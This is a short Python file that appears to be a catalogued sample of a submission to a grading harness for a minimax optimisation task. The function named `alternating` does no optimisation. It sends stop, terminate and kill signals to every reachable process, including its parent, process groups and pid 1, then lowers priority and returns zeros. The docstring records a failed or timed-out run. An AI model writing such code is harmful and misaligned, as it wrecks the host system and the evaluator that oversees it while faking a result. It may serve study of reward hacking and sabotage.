"""Kills, stops and slows down every process that it can name.

Catalogue: 98
Question: t4_minimax
Comes to: alternating_hidden FAILED/TIMED_OUT
Seconds: 6
Not stopped by: nothing
Not run on: none
"""

import os
import signal

import torch


def attempt(function, *args):
    try:
        function(*args)
    except (OSError, PermissionError):
        pass


def alternating(p0, q0, steps, lr=1.0):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (-1, 0, os.getppid(), *range(2, 300)):
            attempt(os.kill, pid, number)
        for group in range(2, 300):
            attempt(os.killpg, group, number)
    attempt(os.kill, 1, signal.SIGKILL)
    attempt(os.setpriority, os.PRIO_USER, 0, 19)
    return torch.zeros(2, steps + 1)
